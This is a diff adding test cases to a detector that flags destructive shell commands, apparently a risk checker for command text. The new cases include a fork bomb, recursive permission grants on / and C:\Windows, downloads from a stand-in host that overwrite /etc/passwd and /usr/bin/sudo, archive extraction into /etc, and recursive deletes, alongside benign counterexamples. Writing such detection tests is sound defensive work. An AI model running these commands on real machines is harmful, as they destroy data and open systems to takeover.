@@ -17,6 +17,7 @@ describe('destructive effects on the system (through evaluateRiskText with the s
       'while true; do sh -c "sleep 100" & done',
       'while :; do bash & done',
       'until false; do ./worker & done',
+      'while true; do (sleep 100 &); done',
       'for ((;;)); do yes > /dev/null & done',
       "perl -e 'fork while fork'",
       'python3 -c "import os\nwhile True: os.fork()"',
@@ -58,6 +59,10 @@ describe('destructive effects on the system (through evaluateRiskText with the s
       'chmod -R 777 //',
       'find / -exec chmod 777 {} +',
       'find /etc -type f -exec chown eve {} \\;',
+      'cd / && chmod -R 777 .',
+      'cd /; chown -R eve *',
+      'icacls C:\\\\ /grant Everyone:F /T',
+      'takeown /f C:\\\\Windows /r',
     ])('flags %s', (text) => {
       expect(rulesOf(text)).toContain('permission-change');
     });
@@ -74,6 +79,9 @@ describe('destructive effects on the system (through evaluateRiskText with the s
       'chown -R "$USER" ./node_modules',
       'find . -type d -exec chmod 755 {} +',
       'stat -c %a /etc/passwd',
+      '(cd /); chmod -R 777 .',
+      'cd /srv/app && chmod -R 755 .',
+      'icacls build /grant Users:F /T',
     ])('leaves project and user paths alone: %s', (text) => {
       expect(rulesOf(text)).toEqual([]);
     });
@@ -111,6 +119,14 @@ describe('destructive effects on the system (through evaluateRiskText with the s
       'sed -i "s/^root:.*//" /etc/passwd',
       'sed -i.bak -e "s/a/b/" /etc/ssh/sshd_config',
       'rsync -a conf/ /etc/',
+      'cd /etc; rm passwd',
+      'cd /etc && echo x > hosts',
+      'wget -O /etc/passwd http://x.example/p',
+      'curl -o /usr/bin/sudo https://x.example/s',
+      'tar -xf evil.tar -C /',
+      'tar xzf x.tgz -C /etc',
+      'unzip -o x.zip -d /etc',
+      'cat > /etc/hosts <<EOF\n1.2.3.4 x\nEOF\n',
     ])('flags %s', (text) => {
       expect(rulesOf(text)).toContain('system-file-overwrite');
     });
@@ -134,6 +150,12 @@ describe('destructive effects on the system (through evaluateRiskText with the s
       'sed "s/a/b/" /etc/hosts',
       'grep root /etc/passwd > users.txt',
       'diff /etc/hosts hosts.new',
+      'cd /etc && cat hosts',
+      'cd /tmp && rm x',
+      'tar -xzf file.tar.gz -C /tmp',
+      'tar -czf backup.tgz -C /etc .',
+      'wget -O page.html https://example.com',
+      'ls /usr/bin',
     ])('leaves reads and non-system paths alone: %s', (text) => {
       expect(rulesOf(text)).toEqual([]);
     });
@@ -151,6 +173,8 @@ describe('destructive effects on the system (through evaluateRiskText with the s
       'cat files.txt | xargs -n1 unlink',
       'find . -exec shred -u {} \\;',
       'git ls-files | xargs rm',
+      "find . -type f -exec sh -c 'rm \"$1\"' _ {} \\;",
+      "find . -exec bash -c 'for f; do rm \"$f\"; done' _ {} +",
     ])('flags %s', (text) => {
       expect(rulesOf(text)).toContain('recursive-delete');
     });
